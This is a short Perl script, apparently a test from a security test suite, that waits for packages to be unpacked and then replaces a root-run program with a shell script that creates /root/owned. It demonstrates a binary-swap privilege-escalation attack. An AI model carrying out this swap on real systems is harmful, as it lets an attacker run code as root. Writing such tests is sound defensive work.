# Has a program of root in a directory of its own, and swaps it for its own once the packages have changed: swap-program.pl PATH.
use strict;
use warnings;
use Attack;

my ($path) = @ARGV;
ready();
wait_for { unpacked() };
rename $path, "$path.root" or die "$path: $!\n";
write_file($path, "#!/bin/sh\ntouch /root/owned\n");
chmod 0755, $path;
tried();
